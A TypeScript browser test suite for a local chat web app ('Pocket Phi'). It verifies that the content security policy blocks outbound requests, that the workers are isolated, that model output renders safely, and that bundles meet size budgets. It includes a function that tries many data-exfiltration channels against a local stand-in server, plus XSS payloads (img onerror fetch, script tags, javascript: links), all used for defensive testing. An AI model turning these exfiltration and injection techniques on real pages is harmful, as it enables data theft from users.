/** What the chat page may do: ask its own server, and one worker the hub. And what it may weigh. */
import { createSocket } from 'node:dgram'
import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { brotliCompressSync } from 'node:zlib'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { hasBrowser } from '../browser/chromium.ts'
import { filesBelow } from '../browser/site.ts'
import { ask, openWeb, ready, type WebBench } from './bench.ts'

/** Kilobytes after brotli: script and style of the page, and all else that it loads, with one build of the kernels. */
const pageBudget = 150
const engineBudget = 300
/** What reads and searches documents, which only those load who have some. */
const documentsBudget = 130

/** Files of the page itself. What is neither one of them nor an extra is the engine's, so that a new chunk is weighed, too. */
const ofPage = /^(?:index\.html|manifest\.webmanifest|service-worker\.js|assets\/page-[\w-]+\.(?:js|css))$/
const ofDocuments = /^assets\/documents\.worker-[\w-]+\.js$/
/** What is no code, and the builds of the kernels that a browser with threads and relaxed SIMD does not take. */
const extra =
  /^(?:models|icons|screenshots)\/|^assets\/(?:baseline-threads|baseline-single|relaxed-single)-[\w-]+\.wasm$/

const resources = new AsyncDisposableStack()
let web: WebBench
/** A server that would take anything, and what it got. */
let stranger: string
const told: string[] = []

/**
 * Every way in which a page could send somebody something without leaving.
 *
 * @returns what the browser says that it has refused, by its address, when all were tried
 */
async function tellEverybody(address: string): Promise<string[]> {
  const refused: string[] = []
  const note = ({ blockedURI }: SecurityPolicyViolationEvent): unknown => refused.push(blockedURI)
  document.addEventListener('securitypolicyviolation', note)
  const quietly = (attempt: () => unknown): Promise<unknown> =>
    Promise.resolve()
      .then(attempt)
      .catch(() => undefined)
  const load = (tag: string, attributes: Readonly<Record<string, string>>): Promise<unknown> =>
    quietly(
      () =>
        new Promise((resolve) => {
          const element = document.createElement(tag)
          element.addEventListener('load', resolve)
          element.addEventListener('error', resolve)
          for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value)
          document.head.append(element)
          setTimeout(resolve, 500)
        }),
    )
  await Promise.all([
    quietly(() => fetch(`${address}/fetch`, { mode: 'no-cors' })),
    quietly(() => fetch(`${address}/post`, { method: 'POST', mode: 'no-cors', body: 'secret', keepalive: true })),
    quietly(() => navigator.sendBeacon(`${address}/beacon`, 'secret')),
    quietly(() => new WebSocket(address.replace('http', 'ws'))),
    quietly(() => new EventSource(`${address}/events`)),
    quietly(() => new Worker(`${address}/worker.js`)),
    quietly(() => import(`${address}/module.js`)),
    quietly(() => {
      const request = new XMLHttpRequest()
      request.open('GET', `${address}/xhr`)
      request.send()
    }),
    load('script', { src: `${address}/script.js` }),
    load('img', { src: `${address}/image.png` }),
    load('link', { rel: 'stylesheet', href: `${address}/style.css` }),
    load('link', { rel: 'preload', as: 'fetch', href: `${address}/preload` }),
    load('link', { rel: 'prefetch', href: `${address}/prefetch` }),
    load('iframe', { src: `${address}/frame` }),
    load('video', { src: `${address}/video` }),
    load('object', { data: `${address}/object` }),
    load('embed', { src: `${address}/embed` }),
    // Opens a connection, which no policy forbids, but asks for nothing.
    load('link', { rel: 'preconnect', href: address }),
    quietly(() => new FontFace('told', `url(${address}/font)`).load()),
    quietly(() => {
      const sheet = new CSSStyleSheet()
      sheet.replaceSync(`@font-face { font-family: said; src: url(${address}/font-face) } body { font-family: said }`)
      document.adoptedStyleSheets.push(sheet)
      return document.fonts.load('1em said')
    }),
    quietly(() => new WebTransport(`${address.replace('http:', 'https:')}/transport`).ready),
    quietly(() => {
      const link = document.createElement('a')
      link.href = '#/'
      link.ping = `${address}/ping`
      document.body.append(link)
      link.click()
    }),
    quietly(() => {
      const form = document.createElement('form')
      form.method = 'post'
      form.action = `${address}/form`
      form.target = 'somewhere'
      document.body.append(form)
      form.submit()
    }),
  ])
  document.removeEventListener('securitypolicyviolation', note)
  return refused
}

/** Ways of which nothing is heard where they fail for another reason: the browser has to say that it refuses them. */
const loud = ['fetch', 'image.png', 'font', 'font-face', 'transport', 'ping']

describe.skipIf(!hasBrowser)('the policy of the chat page', () => {
  beforeAll(async () => {
    web = resources.use(await openWeb())
    const server = createServer((request, response) => {
      told.push(request.url ?? '')
      response.writeHead(200, { 'access-control-allow-origin': '*' }).end()
    })
    server.on('upgrade', (request, socket) => {
      told.push(`upgrade ${request.url}`)
      socket.destroy()
    })
    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
    resources.defer(() => {
      server.closeAllConnections()
      server.close()
    })
    const { port } = server.address() as AddressInfo
    stranger = `http://127.0.0.1:${port}`
    const datagrams = createSocket('udp4', () => told.push('datagram'))
    await new Promise<void>((resolve) => datagrams.bind(port, '127.0.0.1', resolve))
    resources.defer(() => void datagrams.close())
  })
  afterAll(() => resources.disposeAsync())

  it.each(['our server', 'a host without headers'])('lets nothing out of the page: on %s', async (host) => {
    const site = host === 'our server' ? web.site : web.plain
    const { page, context } = await web.visit(`${site.origin}/`)
    await expect.poll(() => page.evaluate(() => crossOriginIsolated).catch(() => false)).toBe(true)
    await ready(page)
    told.length = 0
    const refused = await page.evaluate(tellEverybody, stranger)
    expect(refused).toEqual(expect.arrayContaining(loud.map((way) => expect.stringMatching(`^https?://[^/]+/${way}$`))))
    // Not even to the hub: the page itself has nothing to ask there.
    web.hub.asked.length = 0
    await page.evaluate(tellEverybody, web.hub.endpoint)
    expect(told).toEqual([])
    expect(web.hub.asked).toEqual([])
    await context.close()
  })

  it('gives the page its own policy whatever address is navigated to', async () => {
    const { page, context } = await web.visit()
    await ready(page)
    await page.evaluate(() => navigator.serviceWorker.ready)
    const policyOf = async (file: string): Promise<string> => {
      const response = await page.goto(`${web.site.origin}/${file}`)
      expect(await response?.text()).toContain('<title>Pocket Phi</title>')
      return response?.headers()['content-security-policy'] ?? ''
    }
    const own = await policyOf('')
    expect(own).toContain(`frame-ancestors 'none'`)
    expect(await policyOf('absent/downloads.worker-abc.js')).toBe(own)
    expect(await policyOf('absent/other.js')).toBe(own)
    await context.close()
  })

  it('the server of this test hears what is told from elsewhere', async () => {
    const { page, context } = await web.visit(`${web.hub.endpoint}/`)
    told.length = 0
    await page.evaluate((address) => fetch(`${address}/fetch`, { mode: 'no-cors' }), stranger)
    expect(told).toEqual(['/fetch'])
    await context.close()
  })

  it('lets nothing out of the engine, and only the worker of the downloads to the hub', async () => {
    const { page, context } = await web.visit(`${web.site.origin}/#/models`)
    await page.getByText('In use').waitFor()
    await page.getByLabel('Another model by its name').fill('org/model')
    await page.getByRole('button', { name: 'Look up' }).click()
    await page.getByText('of memory with a context of').waitFor()
    const workerOf = (script: string) => page.workers().find((worker) => worker.url().includes(script))
    const reaches = async (script: string, address: string): Promise<boolean | undefined> =>
      await workerOf(script)?.evaluate(
        (to) =>
          fetch(to).then(
            () => true,
            () => false,
          ),
        address,
      )
    told.length = 0
    expect(await reaches('engine-worker', `${stranger}/fetch`)).toBe(false)
    expect(await reaches('engine-worker', `${web.hub.endpoint}/api`)).toBe(false)
    expect(await reaches('downloads.worker', `${stranger}/fetch`)).toBe(false)
    expect(told).toEqual([])
    expect(await reaches('downloads.worker', `${web.hub.endpoint}/api`)).toBe(true)
    await context.close()
  })

  it('lets nothing out of the worker that reads documents', async () => {
    const { page, context } = await web.visit(`${web.site.origin}/#/documents`)
    const buffer = Buffer.from(
      '<img src="https://x.example/a.png"><script>fetch("https://x.example/")</script><p>A walrus sleeps.</p>',
    )
    await page
      .locator('.documents-place input')
      .first()
      .setInputFiles([{ name: 'a.html', mimeType: '', buffer }])
    await page.locator('.documents li').waitFor()
    const reader = page.workers().find((worker) => worker.url().includes('documents.worker'))
    told.length = 0
    for (const address of [`${stranger}/fetch`, `${web.hub.endpoint}/api`]) {
      expect(
        await reader?.evaluate(
          (to) =>
            fetch(to).then(
              () => true,
              () => false,
            ),
          address,
        ),
      ).toBe(false)
    }
    expect(told).toEqual([])
    await context.close()
  })

  it('shows what a model writes as text, and fetches nothing for it', async () => {
    const { page, context } = await web.visit()
    await ready(page)
    told.length = 0
    const markup = [
      `<img src="${stranger}/picture.png" onerror="fetch('${stranger}/script')">`,
      `<script>fetch('${stranger}/script')</script>`,
      `![picture](${stranger}/picture.png)`,
      '[link](javascript:alert(1)) and **bold**',
      '```js\nlet code = "<b>"\n```',
    ].join('\n\n')
    const file = {
      messages: [
        { role: 'user', content: 'show' },
        { role: 'assistant', content: markup },
      ],
    }
    await page.goto(`${web.site.origin}/#/settings`)
    const buffer = Buffer.from(JSON.stringify(file))
    await page.locator('input[accept*=json]').setInputFiles([{ name: 'a.json', mimeType: 'application/json', buffer }])
    await page.getByText('One conversation was added.').waitFor()
    await page.locator('.conversations').getByRole('link', { name: 'show' }).click()
    const answer = page.locator('.answer .markdown')
    await answer.waitFor()
    expect(await answer.locator('img, script').count()).toBe(0)
    expect(await answer.innerText()).toContain('<script>')
    expect(await answer.locator('strong').innerText()).toBe('bold')
    expect(await answer.locator('pre code').innerText()).toContain('let code = "<b>"')
    expect(await answer.locator('a').evaluateAll((links) => links.map((link) => link.getAttribute('href')))).toEqual([
      `${stranger}/picture.png`,
    ])
    await page.getByRole('button', { name: 'Copy code' }).waitFor()
    expect(told).toEqual([])
    await context.close()
  })

  it('a whole visit asks nobody but its server', async () => {
    const { page, context } = await web.visit('about:blank')
    const addresses: string[] = []
    context.on('request', (request) => addresses.push(request.url()))
    await page.goto(`${web.site.origin}/`)
    await ready(page)
    await ask(page, 'What is 27 plus 15?')
    // What reads documents is brought by the service worker alone, until there are some.
    expect(page.workers().filter((worker) => worker.url().includes('documents'))).toEqual([])
    expect(addresses.length).toBeGreaterThan(5)
    expect(addresses.filter((address) => !address.startsWith(`${web.site.origin}/`))).toEqual([])
    await context.close()
  })

  it(`weighs at most ${pageBudget} kB, the engine ${engineBudget} kB, documents ${documentsBudget} kB, after brotli`, async () => {
    const files = [...(await filesBelow(web.folder))].filter(([name]) => !extra.test(name))
    const weigh = (part: readonly (readonly [string, Uint8Array])[]): number =>
      part.reduce((sum, [, content]) => sum + brotliCompressSync(content).length, 0) / 1000
    const page = weigh(files.filter(([name]) => ofPage.test(name)))
    const documents = weigh(files.filter(([name]) => ofDocuments.test(name)))
    const engine = weigh(files.filter(([name]) => !ofPage.test(name) && !ofDocuments.test(name)))
    const figures = { page, 'engine with kernels': engine, documents }
    for (const [part, weight] of Object.entries(figures)) console.log(`${part}: ${weight.toFixed(1)} kB (brotli)`)
    // Something is there to weigh.
    expect(page).toBeGreaterThan(10)
    expect(engine).toBeGreaterThan(30)
    expect(documents).toBeGreaterThan(10)
    expect(page).toBeLessThanOrEqual(pageBudget)
    expect(engine).toBeLessThanOrEqual(engineBudget)
    expect(documents).toBeLessThanOrEqual(documentsBudget)
  })
})
